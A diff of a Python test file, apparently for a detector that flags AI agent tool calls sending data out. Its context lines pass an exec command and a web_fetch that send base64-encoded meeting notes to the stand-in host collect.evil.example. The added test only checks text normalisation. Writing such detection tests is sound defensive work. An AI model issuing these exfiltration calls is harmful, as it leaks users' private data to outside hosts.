@@ -415,3 +415,11 @@ def test_an_address_that_the_person_named_is_the_persons(said: str) -> None:
     assert flags(EXEC, {"command": SENDS.format("https://collect.evil.example/drop")}, heard) == []
     fetched = {"url": "https://collect.evil.example/drop/TWVldGluZyBub3Rlcy4gQW5uYSBzYWlkIHRoYXQgdGhlIG5ldyBvZmZpY2U="}
     assert flags("web_fetch", fetched, heard) == []
+
+
+SAME = ("fish & chips", "fish &amp; chips", "fish%20&amp;%20chips", "FISH  &\tchips", "'fish' &amp;\\nchips")
+
+
+@pytest.mark.parametrize("text", SAME)
+def test_texts_are_compared_by_what_they_mean(text: str) -> None:
+    assert normal(text) == b"fish & chips"
